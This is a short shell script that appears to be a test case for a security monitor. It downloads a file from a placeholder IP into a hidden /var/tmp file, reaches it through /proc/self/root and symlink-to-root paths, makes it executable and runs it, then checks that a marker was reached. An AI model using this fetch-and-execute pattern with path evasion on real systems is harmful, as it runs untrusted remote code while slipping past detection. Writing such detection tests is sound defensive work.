#!/bin/sh
. /opt/case/case.sh

/proc/self/root/usr/bin/curl -s -o /proc/self/root/var/tmp/.u http://203.0.113.10/programs/marker
ln -s / /tmp/r
/tmp/r/usr/bin/chmod 700 /tmp/r/proc/self/root/var/tmp/.u
/tmp/r/bin/sh -c 'exec /proc/thread-self/root/var/tmp/.u'
wait_for /tmp/reached
took_place
